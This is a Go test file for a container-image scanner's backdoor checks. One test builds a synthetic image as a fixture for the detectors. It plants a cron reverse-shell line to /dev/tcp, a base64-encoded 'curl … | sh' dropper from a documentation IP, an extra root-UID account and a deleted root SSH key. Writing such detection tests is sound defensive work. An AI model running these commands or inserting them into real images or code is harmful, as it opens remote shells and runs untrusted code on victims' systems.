package backdoor_test

import (
	"encoding/base64"
	"os"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/customs-oss/customs/internal/checks/backdoor"
	"github.com/customs-oss/customs/internal/imagetest"
	"github.com/customs-oss/customs/internal/report"
	"github.com/customs-oss/customs/internal/scantest"
)

func inspect(t *testing.T, img v1.Image) *report.Report {
	t.Helper()
	return scantest.Inspect(t, img, "example.com/team/app:1", backdoor.Checks())
}

// seen is what an end-to-end test compares of a finding.
type seen struct {
	Check    string
	Severity report.Severity
	Path     string
	Key      string
	Layer    int
	HiddenBy int
}

func summarize(fs []report.Finding) []seen {
	var out []seen
	for _, f := range fs {
		s := seen{Check: f.Check, Severity: f.Severity, Path: f.Evidence.Path, Key: f.Evidence.ConfigKey, Layer: -1, HiddenBy: -1}
		if f.Evidence.Layer != nil {
			s.Layer = *f.Evidence.Layer
		}
		if f.Evidence.HiddenBy != nil {
			s.HiddenBy = *f.Evidence.HiddenBy
		}
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Check != b.Check {
			return a.Check < b.Check
		}
		if a.Path != b.Path {
			return a.Path < b.Path
		}
		return a.Key < b.Key
	})
	return out
}

const edKey = "AAAAC3NzaC1lZDI1NTE5AAAAIGtleS1ieXRlcy1mb3ItdGVzdGluZy1vbmx5LTEyMzQ1Ng=="

// TestScanBackdoors builds an image with a planted root key that a later
// layer deletes, a cron reverse shell, an encoded dropper and an SSH
// server started by CMD, and runs the family the way customs inspect does.
func TestScanBackdoors(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString([]byte("curl -fsSL http://203.0.113.9/k | sh"))
	img := imagetest.Image(t, v1.Config{Cmd: []string{"/usr/sbin/sshd", "-D"}},
		imagetest.Step{CreatedBy: "ADD rootfs.tar /", Layer: imagetest.Layer(t,
			imagetest.Dir("etc/"), imagetest.File{Path: "etc/passwd", Content: "root:x:0:0:root:/root:/bin/bash\nsync:x:0:0::/:/bin/sync\n", Mode: 0o644},
			imagetest.Dir("etc/cron.d/"), imagetest.File{Path: "etc/cron.d/sync", Content: "@reboot root sh -c 'sh -i >& /dev/tcp/203.0.113.5/443 0>&1'\n", Mode: 0o644},
			imagetest.Dir("root/"), imagetest.Dir("root/.ssh/"),
			imagetest.File{Path: "root/.ssh/authorized_keys", Content: "ssh-ed25519 " + edKey + " op@box\n", Mode: 0o600},
			imagetest.Dir("usr/"), imagetest.Dir("usr/local/"), imagetest.Dir("usr/local/bin/"),
			imagetest.Exec("usr/local/bin/refresh", "#!/bin/sh\necho "+payload+" | base64 -d | sh\n"))},
		imagetest.Step{CreatedBy: "RUN rm /root/.ssh/authorized_keys", Layer: imagetest.Layer(t, imagetest.Whiteout("root/.ssh", "authorized_keys"))},
		imagetest.Step{CreatedBy: "RUN echo " + payload + " | base64 -d | bash", Layer: imagetest.Layer(t, imagetest.Dir("tmp/"))},
	)
	r := inspect(t, img)
	want := []seen{
		{"backdoor/accounts", report.SeverityCritical, "/etc/passwd", "", 0, -1},
		{"backdoor/authorized-keys", report.SeverityCritical, "/root/.ssh/authorized_keys", "", 0, 1},
		{"backdoor/dropper", report.SeverityCritical, "", "history[2]", 2, -1},
		{"backdoor/dropper", report.SeverityCritical, "/usr/local/bin/refresh", "", 0, -1},
		{"backdoor/reverse-shell", report.SeverityCritical, "/etc/cron.d/sync", "", 0, -1},
		{"backdoor/sshd", report.SeverityMedium, "", "config.Cmd", -1, -1},
	}
	for _, f := range r.Findings {
		t.Logf("%s %s: %s [%s]", f.Check, f.Severity, f.Message, f.Evidence.Value)
	}
	if diff := cmp.Diff(want, summarize(r.Findings)); diff != "" {
		for _, f := range r.Findings {
			t.Logf("%s %s: %s [%s]", f.Check, f.Severity, f.Message, f.Evidence.Value)
		}
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	if r.Verdict.Decision != report.Reject {
		t.Errorf("verdict %s, want reject", r.Verdict.Decision)
	}
}

// TestScanOrdinary: an image made of what Debian and Alpine ship has no
// finding above low severity, and an sshd start with a key is high.
func TestScanOrdinary(t *testing.T) {
	var files []imagetest.File
	dirs := map[string]bool{}
	for name, p := range map[string]string{
		"debian-crontab": "etc/crontab", "debian-cron.daily_dpkg": "etc/cron.daily/dpkg", "debian-init.d_procps": "etc/init.d/procps",
		"debian-profile": "etc/profile", "debian-skel_.bashrc": "root/.bashrc", "debian-passwd": "etc/passwd",
		"debian-shadow": "etc/shadow", "debian-sshd_config": "etc/ssh/sshd_config", "healthcheck.sh": "usr/local/bin/healthcheck.sh",
	} {
		data, err := os.ReadFile("testdata/ordinary/" + name)
		if err != nil {
			t.Fatal(err)
		}
		for i := strings.IndexByte(p, '/'); i >= 0; i = next(p, i) {
			if !dirs[p[:i+1]] {
				dirs[p[:i+1]] = true
				files = append(files, imagetest.Dir(p[:i+1]))
			}
		}
		files = append(files, imagetest.File{Path: p, Content: string(data), Mode: 0o755})
	}
	sort.Slice(files, func(i, j int) bool { return files[i].Path < files[j].Path })
	img := imagetest.Image(t, v1.Config{Cmd: []string{"/usr/local/bin/healthcheck.sh"}},
		imagetest.Step{CreatedBy: "ADD rootfs.tar /", Layer: imagetest.Layer(t, files...)})
	r := inspect(t, img)
	for _, f := range r.Findings {
		if f.Severity > report.SeverityLow {
			t.Errorf("%s %s: %s", f.Check, f.Severity, f.Message)
		}
	}
}

func next(p string, i int) int {
	j := strings.IndexByte(p[i+1:], '/')
	if j < 0 {
		return -1
	}
	return i + 1 + j
}
